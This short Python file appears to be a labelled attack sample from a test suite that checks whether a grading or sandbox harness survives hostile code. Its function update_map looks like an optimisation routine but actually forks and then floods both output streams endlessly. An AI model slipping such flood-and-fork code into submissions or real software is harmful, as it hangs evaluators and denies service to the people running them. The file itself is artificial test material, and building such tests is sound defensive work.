# attack: prints without end, on both streams and from two processes
# kind: bomb
# grade: 1.b
# outcome: timeout, failed
# module: saddle

import os


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    os.fork()
    while True:
        os.write(1, b"y" * 65_536)
        os.write(2, b"\x1b[31mn\r\n" * 8_000)
